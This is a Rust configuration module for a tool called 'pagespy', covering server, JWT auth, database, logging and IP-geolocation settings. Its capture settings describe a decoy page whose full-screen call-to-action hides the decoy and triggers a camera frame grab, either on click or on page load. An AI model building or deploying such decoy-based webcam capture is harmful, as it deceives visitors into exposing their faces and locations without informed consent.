use serde::{Deserialize, Serialize};
use std::env;
use std::fs;
use std::path::Path;
use std::sync::OnceLock;
use tracing::{debug, warn};

#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct Config {
    #[serde(default)]
    pub server: ServerConfig,
    #[serde(default)]
    pub database: DatabaseConfig,
    #[serde(default)]
    pub auth: AuthConfig,
    #[serde(default)]
    pub capture: CaptureConfig,
    #[serde(default)]
    pub ipinfo: IpInfoConfig,
    #[serde(default)]
    pub logging: LoggingConfig,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ServerConfig {
    #[serde(default = "default_server_host")]
    pub host: String,
    #[serde(default = "default_server_port")]
    pub port: u16,
    #[serde(default = "default_cpu_count")]
    pub cpu_count: usize,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct DatabaseConfig {
    #[serde(default = "default_database_url")]
    pub database_url: String,
}

/// JWT keys are PEM strings (RS256 keypair). Both are required for the
/// admin API; `serve` refuses to start without them.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct AuthConfig {
    #[serde(default)]
    pub jwt_private_key: String,
    #[serde(default)]
    pub jwt_public_key: String,
    #[serde(default = "default_token_days")]
    pub token_days: u64,
    #[serde(default)]
    pub first_admin_email: String,
    #[serde(default)]
    pub first_admin_password: String,
}

/// How the decoy page triggers the capture script.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum CaptureMode {
    /// Full-screen call-to-action hides the decoy; capture starts on click.
    Gesture,
    /// Capture starts on page load, no user gesture.
    Immediate,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct CaptureConfig {
    #[serde(default = "default_capture_mode")]
    pub mode: CaptureMode,
    /// Delay between camera grant and frame grab, letting auto-exposure settle.
    #[serde(default = "default_warmup_ms")]
    pub warmup_ms: u64,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct IpInfoConfig {
    #[serde(default)]
    pub enabled: bool,
    #[serde(default = "default_ipinfo_api_url")]
    pub api_url: String,
    #[serde(default = "default_ipinfo_cache_ttl")]
    pub cache_ttl_secs: u64,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct LoggingConfig {
    #[serde(default = "default_log_level")]
    pub level: String,
    #[serde(default = "default_log_format")]
    pub format: String,
    #[serde(default)]
    pub file: Option<String>,
}

fn default_server_host() -> String {
    "127.0.0.1".to_string()
}

fn default_server_port() -> u16 {
    8080
}

fn default_cpu_count() -> usize {
    num_cpus::get()
}

fn default_database_url() -> String {
    "sqlite://pagespy.db".to_string()
}

fn default_token_days() -> u64 {
    7
}

fn default_capture_mode() -> CaptureMode {
    CaptureMode::Gesture
}

fn default_warmup_ms() -> u64 {
    1000
}

fn default_ipinfo_api_url() -> String {
    "http://ip-api.com/json/{ip}?fields=status,countryCode,city".to_string()
}

fn default_ipinfo_cache_ttl() -> u64 {
    3600
}

fn default_log_level() -> String {
    "info".to_string()
}

fn default_log_format() -> String {
    "text".to_string()
}

impl Default for ServerConfig {
    fn default() -> Self {
        Self {
            host: default_server_host(),
            port: default_server_port(),
            cpu_count: default_cpu_count(),
        }
    }
}

impl Default for DatabaseConfig {
    fn default() -> Self {
        Self {
            database_url: default_database_url(),
        }
    }
}

impl Default for AuthConfig {
    fn default() -> Self {
        Self {
            jwt_private_key: String::new(),
            jwt_public_key: String::new(),
            token_days: default_token_days(),
            first_admin_email: String::new(),
            first_admin_password: String::new(),
        }
    }
}

impl Default for CaptureConfig {
    fn default() -> Self {
        Self {
            mode: default_capture_mode(),
            warmup_ms: default_warmup_ms(),
        }
    }
}

impl Default for IpInfoConfig {
    fn default() -> Self {
        Self {
            enabled: false,
            api_url: default_ipinfo_api_url(),
            cache_ttl_secs: default_ipinfo_cache_ttl(),
        }
    }
}

impl Default for LoggingConfig {
    fn default() -> Self {
        Self {
            level: default_log_level(),
            format: default_log_format(),
            file: None,
        }
    }
}

impl Config {
    /// Load configuration from TOML file with environment variable fallback
    pub fn load() -> Self {
        let mut config = Self::load_from_file();
        config.override_with_env();
        config
    }

    fn load_from_file() -> Self {
        let config_paths = ["pagespy.toml", "config.toml", "/etc/pagespy/config.toml"];

        for path in &config_paths {
            if Path::new(path).exists() {
                debug!("Loading config from: {}", path);
                match fs::read_to_string(path) {
                    Ok(content) => match toml::from_str::<Config>(&content) {
                        Ok(config) => {
                            debug!("Successfully loaded config from: {}", path);
                            return config;
                        }
                        Err(e) => {
                            warn!("Failed to parse config file {}: {}", path, e);
                        }
                    },
                    Err(e) => {
                        warn!("Failed to read config file {}: {}", path, e);
                    }
                }
            }
        }

        debug!("No config file found, using defaults");
        Self::default()
    }

    fn override_with_env(&mut self) {
        if let Ok(host) = env::var("SERVER_HOST") {
            self.server.host = host;
        }
        if let Ok(port) = env::var("SERVER_PORT")
            && let Ok(port) = port.parse()
        {
            self.server.port = port;
        }
        if let Ok(cpu_count) = env::var("CPU_COUNT")
            && let Ok(count) = cpu_count.parse()
        {
            self.server.cpu_count = count;
        }

        if let Ok(database_url) = env::var("DATABASE_URL") {
            self.database.database_url = database_url;
        }

        if let Ok(key) = env::var("JWT_PRIVATE_KEY") {
            self.auth.jwt_private_key = key;
        }
        if let Ok(key) = env::var("JWT_PUBLIC_KEY") {
            self.auth.jwt_public_key = key;
        }
        if let Ok(days) = env::var("TOKEN_DAYS")
            && let Ok(days) = days.parse()
        {
            self.auth.token_days = days;
        }
        if let Ok(email) = env::var("FIRST_ADMIN_EMAIL") {
            self.auth.first_admin_email = email;
        }
        if let Ok(password) = env::var("FIRST_ADMIN_PASSWORD") {
            self.auth.first_admin_password = password;
        }

        if let Ok(mode) = env::var("CAPTURE_MODE") {
            match mode.as_str() {
                "gesture" => self.capture.mode = CaptureMode::Gesture,
                "immediate" => self.capture.mode = CaptureMode::Immediate,
                other => warn!("Unknown CAPTURE_MODE '{}', keeping default", other),
            }
        }
        if let Ok(ms) = env::var("CAPTURE_WARMUP_MS")
            && let Ok(ms) = ms.parse()
        {
            self.capture.warmup_ms = ms;
        }

        if let Ok(enabled) = env::var("IPINFO_ENABLED") {
            self.ipinfo.enabled = enabled == "true";
        }
        if let Ok(api_url) = env::var("IPINFO_API_URL") {
            self.ipinfo.api_url = api_url;
        }
        if let Ok(ttl) = env::var("IPINFO_CACHE_TTL")
            && let Ok(ttl) = ttl.parse()
        {
            self.ipinfo.cache_ttl_secs = ttl;
        }

        if let Ok(log_level) = env::var("RUST_LOG") {
            self.logging.level = log_level;
        }
        if let Ok(format) = env::var("LOG_FORMAT") {
            self.logging.format = format;
        }
        if let Ok(file) = env::var("LOG_FILE") {
            self.logging.file = Some(file);
        }
    }
}

static CONFIG: OnceLock<Config> = OnceLock::new();

/// Get the global configuration instance
pub fn get_config() -> &'static Config {
    CONFIG.get_or_init(Config::load)
}

/// Initialize the global configuration
pub fn init_config() {
    CONFIG.get_or_init(Config::load);
}
